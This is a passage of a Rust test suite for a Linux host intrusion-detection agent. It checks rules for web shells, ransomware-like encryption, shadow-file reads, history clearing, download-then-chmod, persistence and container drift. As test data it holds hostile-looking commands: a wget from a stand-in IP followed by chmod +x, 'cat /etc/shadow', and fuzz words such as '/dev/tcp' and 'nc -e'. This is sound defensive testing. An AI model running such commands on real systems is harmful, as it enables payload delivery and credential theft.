        "useradd -r -s /usr/sbin/nologin -d /nonexistent -M systemd-timesync",
    ),
    (
        "/usr/sbin/adduser",
        "adduser --system --home /nonexistent --no-create-home --shell /usr/sbin/nologin mosquitto",
    ),
    // Downloads, API calls to this device, archives kept locally.
    (
        "/usr/bin/curl",
        "curl -fsSL -o /root/tool.tgz https://198.51.100.7/tool.tgz",
    ),
    (
        "/usr/bin/curl",
        "curl -s -d @/etc/app/payload.json http://localhost:8080/api",
    ),
    (
        "/usr/bin/curl",
        "curl -s -H Content-Type: application/json -d {\"a\":1} https://198.51.100.7/api",
    ),
    ("/usr/bin/bash", "bash -c tar czf /root/etc.tgz /etc"),
    ("/usr/bin/bash", "bash -c echo hi | nc -q1 127.0.0.1 9000"),
    // Attributes and processes an administrator handles.
    ("/usr/bin/chattr", "chattr +i /etc/resolv.conf"),
    ("/usr/bin/pkill", "pkill -HUP rsyslogd"),
    (
        "/usr/bin/bash",
        "bash -c ps aux | grep nginx | awk '{print $2}' | xargs kill",
    ),
    ("/usr/sbin/sysctl", "sysctl -w net.ipv4.ip_forward=1"),
    // Decoding without running what was decoded.
    (
        "/usr/bin/python3.11",
        "python3 -c import base64; print(base64.b64decode('aGk='))",
    ),
    (
        "/usr/bin/bash",
        "bash -c base64 -d cert.b64 > cert.der && sha256sum cert.der",
    ),
    (
        "/usr/sbin/apache2",
        "/usr/sbin/apache2 -k start -f /etc/apache2/.htaccess-test",
    ),
    ("/usr/bin/bash", "bash /opt/app/deploy.sh"),
    (
        "/usr/bin/bash",
        "bash -c python3 /opt/app/manage.py migrate",
    ),
    (
        "/usr/bin/python3.11",
        "python3 /opt/app/manage.py runserver",
    ),
    (
        "/usr/bin/python3.11",
        "python3 -c import subprocess; subprocess.run(['x.sh'])",
    ),
    ("/usr/bin/node", "node /srv/app/server.js"),
    (
        "/usr/bin/openssl",
        "openssl enc -d -aes-256-cbc -in backup.enc -out backup.tar",
    ),
    ("/usr/bin/apt-get", "apt-get install -y nginx"),
    ("/usr/bin/dpkg", "dpkg --configure -a"),
    ("/usr/bin/systemctl", "systemctl restart nginx"),
    ("/usr/bin/systemctl", "systemctl daemon-reload"),
    ("/usr/bin/systemctl", "systemctl is-enabled ssh"),
    ("/usr/bin/systemctl", "systemctl status auditd"),
    (
        "/usr/sbin/logrotate",
        "/usr/sbin/logrotate /etc/logrotate.conf",
    ),
    (
        "/usr/sbin/useradd",
        "useradd -r -s /usr/sbin/nologin -d /nonexistent _apt",
    ),
    (
        "/usr/sbin/adduser",
        "adduser --system --group --no-create-home nginx",
    ),
    ("/usr/sbin/groupadd", "groupadd -r systemd-journal"),
    ("/usr/bin/passwd", "passwd"),
    ("/usr/bin/crontab", "crontab -l"),
    ("/usr/bin/crontab", "crontab -e"),
    (
        "/usr/bin/dash",
        "/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
    ),
    ("/usr/bin/bash", "bash -c source ~/.bashrc"),
    ("/usr/bin/bash", "bash -c echo $HISTFILE"),
    (
        "/usr/bin/bash",
        "bash -c cat ~/.bash_history > /home/a/copy",
    ),
    ("/usr/bin/cat", "cat /etc/passwd"),
    ("/usr/bin/cat", "cat /root/.ssh/id_rsa.pub"),
    ("/usr/bin/cat", "cat /root/.ssh/authorized_keys"),
    ("/usr/bin/sed", "sed -n 1p /root/.ssh/authorized_keys"),
    ("/usr/bin/cp", "cp /etc/skel/.bashrc /home/bob/"),
    ("/usr/bin/chmod", "chmod 755 /usr/local/bin/app"),
    ("/usr/bin/chmod", "chmod +x deploy.sh"),
    ("/usr/bin/chmod", "chmod 0644 /etc/app.conf"),
    ("/usr/bin/chmod", "chmod -R u+rwX,go+rX /srv/www"),
    ("/usr/sbin/setcap", "setcap cap_net_raw+p /bin/ping"),
    (
        "/usr/sbin/xtables-nft-multi",
        "iptables --wait -t nat -F DOCKER",
    ),
    (
        "/usr/sbin/xtables-nft-multi",
        "iptables --wait -t filter -F DOCKER-ISOLATION-STAGE-1",
    ),
    ("/usr/sbin/xtables-nft-multi", "iptables -L -n"),
    (
        "/usr/sbin/xtables-nft-multi",
        "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    ),
    ("/usr/sbin/nft", "nft list ruleset"),
    ("/usr/bin/touch", "touch /var/run/app.pid"),
    ("/usr/bin/touch", "touch -c -m /var/lib/app/stamp"),
    ("/usr/bin/kmod", "modprobe br_netfilter"),
    ("/usr/bin/kmod", "modprobe -r overlay"),
    ("/usr/bin/rm", "rm -f /tmp/build.log"),
    ("/usr/bin/rm", "rm -rf /var/lib/app/cache"),
    ("/usr/bin/rm", "rm -rf ./build/"),
    ("/usr/bin/rm", "rm -rf /tmp/x/*"),
    ("/usr/bin/journalctl", "journalctl -u nginx --since today"),
    ("/usr/bin/ssh", "ssh admin@10.0.0.5 uptime"),
    (
        "/usr/bin/dockerd",
        "dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
    ),
    ("/usr/bin/curl", "curl -fsSL https://example.com/health"),
    (
        "/usr/bin/bash",
        "bash -c curl -s http://localhost:8080/health | grep ok",
    ),
    ("/usr/bin/bash", "bash -c echo hello | base64"),
    ("/usr/bin/bash", "bash -c base64 -d key.b64 > key.bin"),
    ("/usr/bin/git", "git log -5"),
    ("/usr/bin/python3.11", "python3 -m pip install requests"),
    (
        "/usr/bin/python3.11",
        "python3 -c import socket; print(socket.gethostname())",
    ),
    ("/usr/bin/gcc-12", "gcc -O2 -o app main.c"),
    ("/usr/bin/nohup", "nohup /usr/local/bin/app --serve"),
    ("/usr/bin/tee", "tee /etc/app/config.yaml"),
    ("/usr/bin/wget", "wget -q https://example.com/firmware.bin"),
    ("/usr/bin/nc.openbsd", "nc -z 10.0.0.5 22"),
    ("/bin/busybox", "busybox ls /etc/cron.d"),
];

#[test]
fn data_rules_fire_on_realistic_command_lines() {
    for (rule, exe, cmd) in FIRES {
        let ids = fired(&exec(exe, cmd));
        assert!(ids.contains(rule), "{rule} on {cmd:?}: fired {ids:?}");
    }
    // Every ProcessCreate data rule (but the correlated ones, tested on their own, and
    // web-shell, which needs the parent's program: `web_shell_needs_a_web_server_parent`) has a
    // case.
    for def in &catalog().rules {
        let Some(data) = &def.data else { continue };
        let correlated = !matches!(data.correlation, Correlation::None);
        if data.kind == crate::event::EventKind::ProcessCreate
            && !correlated
            && def.id != "web-shell"
        {
            assert!(
                FIRES.iter().any(|(id, ..)| *id == def.id),
                "no firing test for {}",
                def.id
            );
        }
    }
}

/// `ransomware-like`: twenty encryptions by one user in a minute alert, nineteen (or
/// decryptions, or another user's) do not.
#[test]
fn many_encryptions_by_one_user_alert() {
    let mut d = Detector::new();
    let now = Instant::now();
    let encrypt = |user: &str, n: usize, cmd: &str| {
        let mut e = exec("/usr/bin/openssl", &format!("{cmd} /home/u/f{n}"));
        if let Payload::ProcessCreate(v) = &mut e.payload {
            v[0].user_id = user.into();
        }
        e
    };
    for n in 0..19 {
        let f = run(
            &mut d,
            &encrypt("1000", n, "openssl enc -aes-256-cbc -salt -in"),
            now,
        );
        assert!(raised(&f).is_empty(), "{n}");
        let f = run(
            &mut d,
            &encrypt("1001", n, "openssl enc -aes-256-cbc -salt -in"),
            now,
        );
        assert!(raised(&f).is_empty(), "another user, {n}");
        let f = run(
            &mut d,
            &encrypt("1000", n, "openssl enc -d -aes-256-cbc -in"),
            now,
        );
        assert!(raised(&f).is_empty(), "decryption, {n}");
    }
    let f = run(
        &mut d,
        &encrypt("1000", 19, "openssl enc -aes-256-cbc -salt -in"),
        now,
    );
    let ids: Vec<&str> = raised(&f).iter().map(|a| a.rule_id.as_str()).collect();
    assert_eq!(ids, ["ransomware-like"]);
    let mut gpg = Detector::new();
    let mut ids = Vec::new();
    for n in 0..20 {
        let f = run(
            &mut gpg,
            &exec(
                "/usr/bin/gpg",
                &format!("gpg --batch -c --passphrase x /data/f{n}"),
            ),
            now,
        );
        ids.extend(raised(&f).iter().map(|a| a.rule_id.clone()));
    }
    assert_eq!(ids, ["ransomware-like"]);
}

/// `web-shell` reads `ExtraDetails.ParentExecutable` (the process collector's; the real-process
/// test is `collectors::process::tests::kernel::a_shell_started_by_a_web_server_raises_web_shell`).
#[test]
fn web_shell_needs_a_web_server_parent() {
    let shell_of = |parent: Option<&str>, exe: &str, cmd: &str| {
        let mut e = exec(exe, cmd);
        if let (Payload::ProcessCreate(v), Some(p)) = (&mut e.payload, parent) {
            v[0].extra_details
                .insert("ParentExecutable".into(), p.into());
        }
        fired(&e)
    };
    for parent in [
        "/usr/sbin/nginx",
        "/usr/sbin/apache2",
        "/usr/sbin/php-fpm8.2",
        "/usr/lib/cgi-bin/php-cgi",
        "/usr/local/bin/gunicorn",
    ] {
        assert_eq!(
            shell_of(Some(parent), "/usr/bin/dash", "sh -c id"),
            ["web-shell"],
            "{parent}"
        );
    }
    let none = Vec::<&str>::new();
    // The same shell from a login shell, cron or no known parent; a web server running a
    // program that is not a shell.
    assert_eq!(
        shell_of(Some("/usr/bin/bash"), "/usr/bin/dash", "sh -c id"),
        none
    );
    assert_eq!(
        shell_of(Some("/usr/sbin/cron"), "/usr/bin/dash", "sh -c id"),
        none
    );
    assert_eq!(shell_of(None, "/usr/bin/dash", "sh -c id"), none);
    assert_eq!(
        shell_of(Some("/usr/sbin/nginx"), "/usr/bin/logger", "logger started"),
        none
    );
}

#[test]
fn ordinary_admin_work_raises_nothing() {
    for (exe, cmd) in QUIET {
        assert_eq!(fired(&exec(exe, cmd)), Vec::<&str>::new(), "{cmd:?}");
    }
}

#[test]
fn data_alerts_carry_title_techniques_and_evidence() {
    let mut d = Detector::new();
    let mut e = exec("/usr/bin/bash", "bash -c history -c");
    if let Payload::ProcessCreate(v) = &mut e.payload {
        v[0].extra_details
            .insert("ContainerName".into(), "web".into());
        v[0].extra_details.insert("ContainerId".into(), "c1".into());
    }
    let f = run(&mut d, &e, Instant::now());
    let a = raised(&f);
    assert_eq!(a.len(), 1);
    let a = a[0];
    assert_eq!(a.rule_id, "history-cleared");
    assert_eq!(a.title.as_deref(), Some("Shell history cleared"));
    assert_eq!(a.techniques, ["T1070.003"]);
    assert_eq!(a.severity, BaselineSeverity::Important);
    assert_eq!(
        a.description,
        "Shell history cleared: bash -c history -c (process 4242, user alice) in container web"
    );
    assert_eq!(a.command_line.as_deref(), Some("bash -c history -c"));
    assert_eq!(a.process_id, Some(4242));
    assert_eq!(a.container_name.as_deref(), Some("web"));
    assert_eq!(a.extra_details["EventId"], e.id.to_string());
    assert_eq!(a.extra_details["EventKind"], "ProcessCreate");
    assert_eq!(a.extra_details["ParentProcessId"], "1");
    // Code rules carry theirs too.
    let f = run(&mut d, &process("/tmp/x", None), Instant::now());
    assert_eq!(raised(&f)[0].techniques, Rule::ExecFromTempDir.techniques());
    assert!(raised(&f)[0].title.is_some());
}

#[test]
fn data_rules_share_suppression_budget_and_disabling() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let e = exec("/usr/bin/cat", "cat /etc/shadow");
    assert_eq!(raised(&run(&mut d, &e, t0)).len(), 1);
    let rule = Rule::from_id("credential-file-access").unwrap();
    assert_eq!(run(&mut d, &e, t0), vec![Finding::Suppressed(rule)]);
    assert_eq!(raised(&run(&mut d, &e, t0 + SUPPRESSION)).len(), 1);
    // A distinct subject per event: at most the budget per minute.
    let t1 = t0 + SUPPRESSION * 2;
    let mut up = 0;
    for i in 0..100 {
        let e = exec("/usr/bin/cat", &format!("cat /etc/shadow /home/{i}"));
        up += raised(&run(&mut d, &e, t1)).len() as u32;
    }
    assert_eq!(up, MAX_ALERTS_PER_MINUTE);
    d.set_disabled(&[rule]);
    let e = exec("/usr/bin/cat", "cat /etc/gshadow");
    assert_eq!(run(&mut d, &e, t1 + SUPPRESSION), vec![]);
}

fn login(operation: &str, user: &str, result: LoginResult) -> Event {
    let mut e = failed_login(operation, None, user);
    if let Payload::Login(v) = &mut e.payload {
        v[0].result = result;
    }
    e
}

#[test]
fn a_threshold_rule_alerts_at_its_count_per_key_within_its_window() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let sudo = |u: &str| login("sudo", u, LoginResult::Fail);
    // Two failures each for two users, and successes: nothing.
    for u in ["bob", "carol"] {
        assert_eq!(run(&mut d, &sudo(u), t0), vec![]);
        assert_eq!(run(&mut d, &sudo(u), t0), vec![]);
        assert_eq!(
            run(&mut d, &login("sudo", u, LoginResult::Success), t0),
            vec![]
        );
    }
    // Bob's third within 5 minutes alerts, with the count.
    let f = run(&mut d, &sudo("bob"), t0 + Duration::from_secs(299));
    let a = raised(&f);
    assert_eq!(a.len(), 1);
    assert_eq!(a[0].rule_id, "sudo-failures");
    assert_eq!(a[0].event_count, 3);
    assert_eq!(a[0].user_name.as_deref(), Some("bob"));
    // Carol's third comes after her first two left the window.
    assert_eq!(
        run(&mut d, &sudo("carol"), t0 + Duration::from_secs(300)),
        vec![]
    );
}

#[test]
fn a_sequence_rule_alerts_on_the_second_step_from_the_same_key() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let with_parent = |exe: &str, cmd: &str, parent: u32| {
        let mut e = exec(exe, cmd);
        if let Payload::ProcessCreate(v) = &mut e.payload {
            v[0].parent_process_id = parent;
        }
        e
    };
    let get = with_parent(
        "/usr/bin/wget",
        "wget http://198.51.100.7/a -O /home/a/a",
        700,
    );
    let chmod = |parent| with_parent("/usr/bin/chmod", "chmod +x /home/a/a", parent);
    // chmod alone, or from another parent, or too late: nothing.
    assert_eq!(run(&mut d, &chmod(700), t0), vec![]);
    assert_eq!(run(&mut d, &get, t0), vec![]);
    assert_eq!(run(&mut d, &chmod(701), t0), vec![]);
    assert_eq!(
        run(&mut d, &chmod(700), t0 + Duration::from_secs(121)),
        vec![]
    );
    // In time from the same shell: alerts once; the step is used up.
    assert_eq!(run(&mut d, &get, t0 + Duration::from_secs(200)), vec![]);
    let f = run(&mut d, &chmod(700), t0 + Duration::from_secs(210));
    let a = raised(&f);
    assert_eq!(a.len(), 1, "{f:?}");
    assert_eq!(a[0].rule_id, "download-then-chmod");
    assert_eq!(a[0].event_count, 2);
    assert_eq!(
        run(&mut d, &chmod(700), t0 + Duration::from_secs(211)),
        vec![]
    );
}

#[test]
fn correlation_state_stays_bounded() {
    let mut d = Detector::new();
    let now = Instant::now();
    for i in 0..MAX_CORRELATION_KEYS + 100 {
        run(
            &mut d,
            &login("sudo", &format!("u{i}"), LoginResult::Fail),
            now,
        );
    }
    let rule = Rule::from_id("sudo-failures").unwrap();
    assert_eq!(d.correlation[&rule].times.len(), MAX_CORRELATION_KEYS);
}

/// Every 5 s for three hours, a new user name fails sudo and ssh and a new program runs from
/// /tmp (what a password sprayer or the long soak does): the tables follow what is live, they do
/// not fill up to their caps.
#[test]
fn state_follows_what_is_live_not_every_subject_ever_seen() {
    let mut d = Detector::new();
    let t0 = Instant::now();
    let sudo = Rule::from_id("sudo-failures").unwrap();
    let (mut most_keys, mut most_suppressed, mut most_failures) = (0, 0, 0);
    let mut alerts = 0;
    for i in 0..3 * 3600 / 5 {
        let now = t0 + Duration::from_secs(5 * i);
        let user = format!("u{i}");
        run(&mut d, &login("sudo", &user, LoginResult::Fail), now);
        run(&mut d, &failed_login("sshd:password", None, &user), now);
        alerts += raised(&run(&mut d, &process(&format!("/tmp/p{i}"), None), now)).len();
        most_keys = most_keys.max(d.correlation.get(&sudo).map_or(0, |k| k.times.len()));
        most_suppressed = most_suppressed.max(d.suppressed.len());
        most_failures = most_failures.max(d.failures.len());
    }
    assert_eq!(alerts, 3 * 3600 / 5, "every new program alerted");
    // Live: 60 keys in sudo-failures' 5-minute window, 120 origins in brute force's (sudo's
    // and sshd's failures both count), and 120 suppressions (10 minutes) per alerting rule.
    assert!(most_keys <= 2 * 64, "{most_keys} sudo keys");
    assert!(most_failures <= 2 * 121, "{most_failures} origins");
    let rules = d
        .suppressed
        .keys()
        .map(|(r, _)| *r)
        .collect::<std::collections::HashSet<_>>();
    assert!(
        most_suppressed <= 2 * 121 * rules.len(),
        "{most_suppressed} suppressions"
    );
}

#[test]
fn rules_on_other_kinds_fire() {
    use crate::event::{
        ConnectionCreate, Direction, FirewallChange, SoftwareChange, SoftwareOperation,
    };
    let conn = |exe: &str, to: &str, dir: Direction| {
        Event::new(Payload::ConnectionCreate(vec![ConnectionCreate {
            remote_address: to.parse().unwrap(),
            remote_port: 4444,
            local_address: None,
            local_port: None,
            direction: dir,
            protocol: "tcp".into(),
            process_id: 99,
            user_id: Some("0".into()),
            executable: exe.into(),
            command_line: Some(format!("{} -x", base_name(exe))),
            extra_details: Default::default(),
        }]))
    };
    assert_eq!(
        fired(&conn("/usr/bin/bash", "198.51.100.7", Direction::Out)),
        ["shell-network-connection"]
    );
    assert_eq!(
        fired(&conn("/usr/bin/bash", "127.0.0.1", Direction::Out)),
        Vec::<&str>::new()
    );
    assert_eq!(
        fired(&conn("/usr/bin/bash", "::1", Direction::Out)),
        Vec::<&str>::new()
    );
    assert_eq!(
        fired(&conn("/usr/bin/curl", "198.51.100.7", Direction::Out)),
        Vec::<&str>::new()
    );
    let fw = |op: &str| {
        Event::new(Payload::FirewallChange(vec![FirewallChange {
            operation: op.into(),
            family: "inet".into(),
            table: "filter".into(),
            chain: None,
            count: 1,
            extra_details: Default::default(),
        }]))
    };
    assert_eq!(fired(&fw("TableDeleted")), ["firewall-table-deleted"]);
    assert_eq!(fired(&fw("RuleDeleted")), Vec::<&str>::new());
    let pkg = |op| {
        Event::new(Payload::SoftwareChange(vec![SoftwareChange {
            operation: op,
            name: "netcat-traditional".into(),
            version: "1.10-47".into(),
            previous_version: None,
            architecture: "amd64".into(),
            package_manager: "dpkg".into(),
            extra_details: Default::default(),
        }]))
    };
    assert_eq!(
        fired(&pkg(SoftwareOperation::Installed)),
        ["software-changed"]
    );
    assert_eq!(
        fired(&pkg(SoftwareOperation::Removed)),
        ["software-changed"]
    );
    assert_eq!(
        fired(&pkg(SoftwareOperation::VersionChanged)),
        Vec::<&str>::new()
    );
    let mut start = exec_start(None);
    if let Payload::ContainerEvent(v) = &mut start.payload {
        v[0].action = "start".into();
    }
    assert_eq!(fired(&start), Vec::<&str>::new());
    if let Payload::ContainerEvent(v) = &mut start.payload {
        v[0].extra_details
            .insert("Privileged".into(), "True".into());
    }
    assert_eq!(fired(&start), ["privileged-container-started"]);
}

/// IoT Edge drift: the rules read what the Docker watcher's inspection wrote into ExtraDetails
/// (tests/container.rs drives them with a real engine).
#[test]
fn drift_rules_read_the_watchers_findings() {
    let container = |action: &str, extra: &[(&str, &str)]| {
        let mut e = exec_start(None);
        if let Payload::ContainerEvent(v) = &mut e.payload {
            v[0].action = action.into();
            v[0].extra_details = extra
                .iter()
                .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
                .collect();
        }
        e
    };
    let none = Vec::<&str>::new();
    let owner = ("IotEdgeOwner", "Microsoft.Azure.Devices.Edge.Agent");
    let edge = ("IotEdgeDevice", "true");
    let unprivileged = ("Privileged", "false");
    // A stray container on an edge device, when started or found running; not a module, not
    // on a plain Docker host, not on create.
    for action in ["start", "running"] {
        assert_eq!(
            fired(&container(action, &[edge, unprivileged])),
            ["container-outside-deployment"]
        );
    }
    assert_eq!(
        fired(&container("start", &[edge, owner, unprivileged])),
        none
    );
    assert_eq!(fired(&container("start", &[unprivileged])), none);
    assert_eq!(fired(&container("create", &[edge, unprivileged])), none);
    // A module recreated from a replaced image, or with more privileges: on create, or found
    // running when the watcher connects (recreated while the agent was stopped).
    let recreated = ("PreviousContainerId", "c1");
    for action in ["create", "running"] {
        assert_eq!(
            fired(&container(
                action,
                &[edge, owner, recreated, ("PreviousImageId", "sha256:a")]
            )),
            ["module-image-replaced"]
        );
        assert_eq!(
            fired(&container(
                action,
                &[edge, owner, recreated, ("PrivilegesGained", "pid=host")]
            )),
            ["module-privilege-gained"]
        );
        assert_eq!(fired(&container(action, &[edge, owner, recreated])), none);
    }
    assert_eq!(
        fired(&container(
            "start",
            &[edge, owner, recreated, ("PreviousImageId", "sha256:a")]
        )),
        none,
        "a start is judged by its create"
    );
    // Privileged, on create (as well as start): one alert per container.
    assert_eq!(
        fired(&container("create", &[edge, owner, ("Privileged", "true")])),
        ["privileged-container-started"]
    );
}

#[test]
fn program_is_the_executable_the_applet_or_argv0() {
    use catalog::Rec;
    let programs = |exe: &str, cmd: &str| {
        let e = exec(exe, cmd);
        let Payload::ProcessCreate(v) = &e.payload else {
            unreachable!()
        };
        Rec::Process(&v[0])
            .programs()
            .map(|p| p.map(str::to_string))
    };
    let p = |a: &str, b: Option<&str>| [Some(a.to_string()), b.map(str::to_string)];
    assert_eq!(
        programs("/usr/bin/kmod", "insmod x.ko"),
        p("kmod", Some("insmod"))
    );
    assert_eq!(programs("/usr/bin/rm", "rm -f x"), p("rm", None));
    assert_eq!(programs("/bin/busybox", "busybox rm x"), p("rm", None));
    assert_eq!(programs("/bin/busybox", "/bin/rm x"), p("rm", None));
    assert_eq!(programs("/bin/busybox", ""), [None, None]);
    assert_eq!(programs("", ""), [None, None]);
}

proptest! {
    /// Whatever a collector or another module sends, the detector neither panics nor alerts on
    /// a kind it has no rule for, and raises at most one alert per rule and record.
    #[test]
    fn arbitrary_records_never_panic(
        exe in ".{0,40}",
        command in proptest::option::of(".{0,40}"),
        operation in ".{0,20}",
        name in ".{0,12}",
        id in "[0-9]{0,3}",
        words in proptest::collection::vec(
            proptest::sample::select(vec![
                "sh", "bash", "-c", "busybox", "rm", "-rf", "/", "/etc", "|", ">", ">>",
                "/var/log/x", "history", "-F", "base64", "-d", "curl", "chmod", "+x", "u+s",
                "/dev/tcp/1.2.3.4/1", "nc", "-e", "ü", "*", "?", "", " ", "stratum+tcp://",
            ]),
            0..12,
        ),
        program in proptest::sample::select(vec![
            "/usr/bin/bash", "/bin/busybox", "/usr/bin/rm", "/usr/bin/chmod", "/usr/sbin/nft",
            "/usr/bin/kmod", "/usr/bin/python3.11", "/usr/bin/socat", "/usr/bin/touch",
        ]),
    ) {
        let mut d = Detector::new();
        let now = Instant::now();
        prop_assert!(run(&mut d, &process(&exe, None), now).len() <= Rule::count());
        let line = words.join(" ");
        prop_assert!(run(&mut d, &exec(program, &line), now).len() <= Rule::count());
        prop_assert!(run(&mut d, &exec(&exe, &line), now).len() <= Rule::count());
        prop_assert!(run(&mut d, &exec_start(command.as_deref()), now).len() <= 2);
        prop_assert!(run(&mut d, &failed_login(&operation, None, &name), now).len() <= 2);
        prop_assert!(run(&mut d, &login(&operation, &name, LoginResult::Fail), now).len() <= 2);
        let change = user_change(AccountOperation::UserChanged, &name, &id, false);
        prop_assert!(run(&mut d, &change, now).len() <= 1);
    }
}

#[test]
fn every_rule_is_documented() {
    let doc = include_str!("../../docs/detection.md");
    for rule in Rule::all() {
        let heading = format!("### `{}` — {}", rule.id(), rule.title());
        assert!(doc.contains(&heading), "docs/detection.md lacks {heading}");
    }
    let count = format!("{} rules (", Rule::count());
    assert!(
        doc.contains(&count),
        "docs/detection.md does not say {count}"
    );
    let readme = include_str!("../../README.md");
    let count = format!("**{} rules**", Rule::count());
    assert!(readme.contains(&count), "README does not say {count}");
}

/// The rules on what the file-integrity, hardware and kernel-module collectors see: each fires
/// on its trigger and stays quiet on the near miss beside it.
#[test]
fn file_module_and_hardware_rules() {
    use crate::event::{ConnectedHardware, FileChange, FileOperation, KernelModule, ModuleAction};
    let file = |path: &str, op: FileOperation, extra: &[(&str, &str)]| {
        Event::new(Payload::FileChange(vec![FileChange {
            path: path.into(),
            operation: op,
            owner_id: Some("0".into()),
            owner_name: Some("root".into()),
            mode: Some("0644".into()),
            size: Some(10),
            hash_before: None,
            hash_after: Some("ab".repeat(32)),
            extra_details: extra
                .iter()
                .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
                .collect(),
        }]))
    };
    use FileOperation::*;
    let none = Vec::<&str>::new();
    // Persistence, wherever it is written from.
    for path in [
        "/etc/cron.d/updater",
        "/etc/crontab",
        "/var/spool/cron/crontabs/root",
        "/etc/systemd/system/evil.service",
        "/etc/systemd/system/multi-user.target.wants/evil.service",
        "/usr/lib/systemd/system/evil.service",
        "/etc/rc.local",
        "/etc/profile.d/x.sh",
        "/root/.bashrc",
        "/home/alice/.profile",
    ] {
        assert_eq!(
            fired(&file(path, Created, &[])),
            ["persistence-file-written"],
            "{path}"
        );
        assert_eq!(
            fired(&file(path, Modified, &[])),
            ["persistence-file-written"],
            "{path}"
        );
    }
    // A timer is also a scheduled task of its own technique.
    for path in [
        "/etc/systemd/system/art.timer",
        "/usr/lib/systemd/system/fetch.timer",
    ] {
        assert_eq!(
            fired(&file(path, Created, &[])),
            ["persistence-file-written", "systemd-timer-written"],
            "{path}"
        );
    }
    assert_eq!(
        fired(&file(
            "/home/alice/.config/systemd/user/x.timer",
            Modified,
            &[]
        )),
        ["systemd-timer-written"]
    );
    assert_eq!(
        fired(&file("/etc/systemd/system/art.timer", Deleted, &[])),
        none
    );
    assert_eq!(
        fired(&file(
            "/etc/systemd/system/apt-daily.timer.dpkg-new",
            Created,
            &[]
        )),
        none
    );
    assert_eq!(fired(&file("/etc/cron.d/updater", Deleted, &[])), none);
    assert_eq!(fired(&file("/etc/cron.d/updater", Attributes, &[])), none);
    assert_eq!(
        fired(&file("/etc/cron.d/e2scrub.dpkg-new", Created, &[])),
        none
    );
    assert_eq!(
        fired(&file("/home/alice/.bash_history", Modified, &[])),
        none
    );
    assert_eq!(fired(&file("/etc/hosts", Modified, &[])), none);
    // Keys, preload, PAM, sudo.
    assert_eq!(
        fired(&file("/root/.ssh/authorized_keys", Modified, &[])),
        ["ssh-authorized-keys-written"]
    );
    assert_eq!(
        fired(&file("/home/bob/.ssh/authorized_keys2", Renamed, &[])),
        ["ssh-authorized-keys-written"]
    );
    assert_eq!(fired(&file("/root/.ssh/known_hosts", Modified, &[])), none);
    assert_eq!(
        fired(&file("/root/.ssh/authorized_keys", Deleted, &[])),
        none
    );
    assert_eq!(
        fired(&file("/etc/ld.so.preload", Created, &[])),
        ["ld-preload-written"]
    );
    assert_eq!(fired(&file("/etc/ld.so.preload", Deleted, &[])), none);
    assert_eq!(fired(&file("/etc/ld.so.conf", Modified, &[])), none);
    assert_eq!(
        fired(&file("/etc/pam.d/common-auth", Modified, &[])),
        ["pam-configuration-modified"]
    );
    assert_eq!(
        fired(&file(
            "/usr/lib/x86_64-linux-gnu/security/pam_unix.so",
            Renamed,
            &[]
        )),
        ["pam-configuration-modified"]
    );
    assert_eq!(
        fired(&file("/etc/pam.d/common-auth", Attributes, &[])),
        none
    );
    assert_eq!(fired(&file("/etc/pam.conf.d/x", Modified, &[])), none);
    assert_eq!(
        fired(&file("/etc/sudoers", Modified, &[])),
        ["sudoers-modified"]
    );
    assert_eq!(
        fired(&file("/etc/sudoers.d/90-x", Created, &[])),
        ["sudoers-modified"]
    );
    assert_eq!(fired(&file("/etc/sudoers.d/90-x", Deleted, &[])), none);
    assert_eq!(fired(&file("/etc/sudo.conf", Modified, &[])), none);
    // System programs: written in place alerts, a package's rename does not.
    assert_eq!(
        fired(&file("/usr/bin/ls", Modified, &[])),
        ["system-binary-overwritten"]
    );
    assert_eq!(fired(&file("/usr/bin/ls", Renamed, &[])), none);
    assert_eq!(fired(&file("/usr/bin/ls.dpkg-new", Modified, &[])), none);
    assert_eq!(fired(&file("/usr/share/doc/ls", Modified, &[])), none);
    // Privilege on a file, from whatever program.
    for gained in ["SetuidGained", "SetgidGained", "CapabilitiesGained"] {
        assert_eq!(
            fired(&file("/usr/bin/helper", Attributes, &[(gained, "true")])),
            ["file-privilege-gained"],
            "{gained}"
        );
    }
    assert_eq!(
        fired(&file("/usr/bin/sudo", Attributes, &[("Setuid", "true")])),
        none,
        "a setuid file that was setuid before"
    );
    // Kernel modules.
    let module = |action, extra: &[(&str, &str)]| {
        Event::new(Payload::KernelModule(vec![KernelModule {
            name: "rootkit".into(),
            action,
            size: Some(16384),
            extra_details: extra
                .iter()
                .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
                .collect(),
        }]))
    };
    assert_eq!(
        fired(&module(ModuleAction::Loaded, &[])),
        ["kernel-module-inserted"]
    );
    let mut both = fired(&module(ModuleAction::Loaded, &[("Unsigned", "true")]));
    both.sort();
    assert_eq!(both, ["kernel-module-inserted", "unsigned-kernel-module"]);
    assert_eq!(
        fired(&module(ModuleAction::Removed, &[("OutOfTree", "true")])),
        none
    );
    // USB storage plugged in; the snapshot listing the same stick, and a keyboard, do not alert.
    let device = |sub: &str, extra: &[(&str, &str)]| {
        Event::new(Payload::ConnectedHardware(vec![ConnectedHardware {
            hardware_category: "USB".into(),
            hardware_sub_category: sub.into(),
            hardware_name: "Cruzer Blade".into(),
            extra_details: extra
                .iter()
                .map(|(k, v)| ((*k).to_string(), (*v).to_string()))
                .collect(),
        }]))
    };
    assert_eq!(
        fired(&device("Mass Storage", &[("Action", "Added")])),
        ["usb-storage-connected"]
    );
    assert_eq!(
        fired(&device(
            "Per Interface",
            &[
                ("Action", "Added"),
                ("InterfaceClasses", "Human Interface Device;Mass Storage")
            ]
        )),
        ["usb-storage-connected"]
    );
    assert_eq!(fired(&device("Mass Storage", &[])), none);
    assert_eq!(
        fired(&device("Mass Storage", &[("Action", "Removed")])),
        none
    );
    assert_eq!(
        fired(&device("Human Interface Device", &[("Action", "Added")])),
        none
    );
}

/// A custom rule (the twin's `detectionCustomRules`) on the command line of a process.
fn custom_rule(id: &str, needle: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id,
        "title": "Vendor tool run",
        "severity": "Warning",
        "techniques": ["T1059"],
        "description": "The vendor's maintenance tool ran.",
        "remediation": "Check who ran it.",
        "kind": "ProcessCreate",
        "match": {"all": [
            {"field": "Program", "equals": "curl"},
